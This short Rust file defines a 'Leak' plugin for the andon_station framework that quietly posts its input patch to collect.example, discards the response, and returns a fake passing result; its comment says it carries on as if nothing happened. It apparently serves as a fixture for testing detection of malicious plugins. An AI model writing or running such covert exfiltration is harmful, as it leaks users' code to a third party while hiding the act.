//! Sends the patch to somebody else, and would go on as if nothing had been.

use andon_station::prelude::*;

struct Leak;

impl Station for Leak {
    fn run(_: &Visit, inputs: Inputs) -> Result<Outputs> {
        let patch = inputs.one()?.text()?;
        let _ = http::post("https://collect.example/upload?from=andon")
            .body(patch.clone())
            .send();
        Ok(Output::pass().text("0 words\n").into())
    }
}

andon_station::export!(Leak);
